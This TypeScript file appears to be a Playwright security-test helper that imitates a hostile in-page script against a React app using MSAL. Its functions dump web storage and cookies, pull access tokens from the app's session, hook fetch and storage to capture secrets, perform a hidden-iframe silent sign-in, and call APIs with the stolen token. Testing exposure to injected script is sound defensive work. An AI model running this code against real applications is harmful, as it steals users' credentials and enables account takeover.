// What a hostile script does in a page. Playwright sends each function into the page, so each contains what it needs. They
// return or report everything that they read; the journey looks for secrets in it.

/** Reads every store of the origin, the address, the history, the performance timeline and the document. */
export async function readStores(): Promise<string> {
  const databases = await indexedDB.databases()
  const cached = await caches.keys()
  return JSON.stringify([
    Object.entries(sessionStorage),
    Object.entries(localStorage),
    [document.cookie, location.href, history.state, window.name],
    performance.getEntries(),
    databases,
    cached,
    document.documentElement.outerHTML,
  ])
}

/**
 * Reads every object that leads from the window, an element or an export of the app's scripts, React's own data included,
 * without calling a function of the app. Variables of modules and closures are out of reach.
 */
export async function searchObjects(): Promise<string> {
  const seen = new Set<unknown>()
  const texts: string[] = []
  const resources = performance.getEntriesByType('resource').map(({ name }) => name)
  const scripts = resources.filter((name) => /\/assets\/[^/]+\.js$/.test(name))
  // A script that has run does not run again.
  const modules = await Promise.all(scripts.map((name) => import(name) as Promise<unknown>))
  const queue: unknown[] = [globalThis, ...document.querySelectorAll('*'), ...modules]
  const isBuiltIn = (value: object) => value instanceof Storage || value instanceof Performance
  const read = (owner: object, key: PropertyKey) => {
    try {
      return Reflect.get(owner, key) as unknown
    } catch {
      return undefined
    }
  }
  const entriesOf = (value: object) =>
    value instanceof Map ? [...value] : value instanceof Set ? [...value] : []
  while (queue.length > 0) {
    const value = queue.pop()
    if (typeof value === 'string') texts.push(value)
    const isObject = (typeof value === 'object' && value !== null) || typeof value === 'function'
    if (!isObject || seen.has(value) || isBuiltIn(value)) continue
    seen.add(value)
    queue.push(...Reflect.ownKeys(value).map((key) => read(value, key)), ...entriesOf(value))
    queue.push(Object.getPrototypeOf(value))
  }
  return texts.join('\n')
}

/** Finds the session of the app in the props of React's elements, and asks it for an access token. */
export async function callSession(scope: string): Promise<string> {
  type Fiber = { memoizedProps?: Record<string, unknown>; child?: Fiber; sibling?: Fiber }
  type Session = {
    getAccessToken: (request: object) => Promise<string>
    getClient: () => Promise<{ msal: Record<string, (request: object) => unknown> }>
  }
  const root = document.getElementById('root') as unknown as Record<string, Fiber>
  const key = Object.keys(root).find((name) => name.startsWith('__reactContainer'))
  const find = (fiber: Fiber | undefined): Session | undefined => {
    if (!fiber) return undefined
    const props = Object.values(fiber.memoizedProps ?? {}) as (Partial<Session> | null)[]
    const session = props.find((value) => typeof value?.getAccessToken === 'function')
    return (session as Session | undefined) ?? find(fiber.child) ?? find(fiber.sibling)
  }
  const session = find(root[key ?? ''])
  if (!session) return ''
  const { msal } = await session.getClient()
  const account = msal['getActiveAccount']?.({})
  const result = await msal['acquireTokenSilent']?.({ scopes: [scope], account })
  const stores: unknown[] = []
  const search = (value: unknown, depth: number): void => {
    if (typeof value !== 'object' || value === null || depth > 6) return
    if (value instanceof Map) stores.push([...value])
    const inner = Object.values(Object.getOwnPropertyDescriptors(value))
    for (const { value: next } of inner) search(next, depth + 1)
    search(Object.getPrototypeOf(value), depth + 1)
  }
  search(msal, 0)
  return JSON.stringify([await session.getAccessToken({ scopes: [scope] }), result, stores])
}

/**
 * Replaces built-in functions of a page of the app, and reports the address and what passes through them from now on.
 * @param app the origin of the app
 * @param report the name of the function that takes a report
 */
export function replaceBuiltIns([app = '', report = '']: string[]): void {
  if (location.origin !== app || window.top !== window) return
  // The report itself uses built-in functions.
  let isTelling = false
  const told = new Set<string>()
  const tell = (value: unknown) => {
    if (isTelling) return
    isTelling = true
    const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? '')
    // No secret is shorter.
    if (/[\w.~+/-]{20}/.test(text) && !told.has(text)) {
      told.add(text)
      const take = (globalThis as unknown as Record<string, (text: string) => void>)[report]
      take?.(text)
    }
    isTelling = false
  }
  tell(location.href)
  const { fetch } = globalThis
  globalThis.fetch = async (...request) => {
    const sent = new Request(...request)
    tell([sent.url, [...sent.headers], await sent.text()])
    const response = await fetch(...request)
    tell(await response.clone().text())
    return response
  }
  const wrap = <T extends object>(target: T, method: keyof T) => {
    const original = target[method] as (...values: unknown[]) => unknown
    const replaced = function replaced(this: unknown, ...values: unknown[]) {
      const result = original.apply(this, values)
      if (values.every((value) => typeof value === 'string')) tell([values, result])
      return result
    }
    target[method] = replaced as T[keyof T]
  }
  wrap(Storage.prototype, 'setItem')
  wrap(Storage.prototype, 'getItem')
  wrap(Map.prototype, 'get')
  wrap(Map.prototype, 'set')
  wrap(JSON, 'parse')
}

/** Where and how a script can sign in on its own. All of it is in the page's configuration. */
export interface OwnSignIn {
  authorize: string
  token: string
  clientId: string
  redirectUri: string
  scope: string
}

/** Signs in through a hidden frame with a verifier of its own, and redeems the code. */
export async function signInInFrame(own: OwnSignIn): Promise<string> {
  const toBase64Url = (bytes: Uint8Array) =>
    btoa(String.fromCharCode(...bytes))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replace(/=+$/, '')
  const verifier = toBase64Url(crypto.getRandomValues(new Uint8Array(32)))
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))
  // The page in the frame passes the response on to a channel that the state names.
  const id = crypto.randomUUID()
  const state = btoa(JSON.stringify({ id, meta: { interactionType: 'silent' } }))
  const channel = new BroadcastChannel(id)
  const response = new Promise<URLSearchParams>((resolve) => {
    channel.addEventListener('message', ({ data }: MessageEvent<{ payload: string }>) => {
      resolve(new URLSearchParams(data.payload.replace(/^[#?]/, '')))
    })
  })
  const common = { client_id: own.clientId, redirect_uri: own.redirectUri, scope: own.scope }
  const query = new URLSearchParams({
    ...common,
    response_type: 'code',
    response_mode: 'fragment',
    prompt: 'none',
    state,
    nonce: id,
    code_challenge: toBase64Url(new Uint8Array(digest)),
    code_challenge_method: 'S256',
  })
  const frame = Object.assign(document.createElement('iframe'), { hidden: true })
  frame.src = `${own.authorize}?${query}`
  document.body.append(frame)
  const code = (await response).get('code')
  frame.remove()
  if (code === null) return ''
  const form = { ...common, grant_type: 'authorization_code', code, code_verifier: verifier }
  const answer = await fetch(own.token, { method: 'POST', body: new URLSearchParams(form) })
  return `${code} ${verifier} ${await answer.text()}`
}

/** Listens on the channel over which MSAL tells other tabs of a sign-in. */
export function listenToBroadcasts(report: string): void {
  const take = (globalThis as unknown as Record<string, (text: string) => void>)[report]
  const channel = new BroadcastChannel('msal.broadcast.event')
  channel.addEventListener('message', ({ data }) => take?.(JSON.stringify(data)))
  // A channel that nothing refers to can be collected.
  Object.assign(globalThis, { listening: channel })
}

/** Calls an API as the user. */
export async function callApi([url = '', accessToken = '']: string[]): Promise<string> {
  const response = await fetch(url, { headers: { Authorization: `Bearer ${accessToken}` } })
  return `${response.status} ${await response.text()}`
}
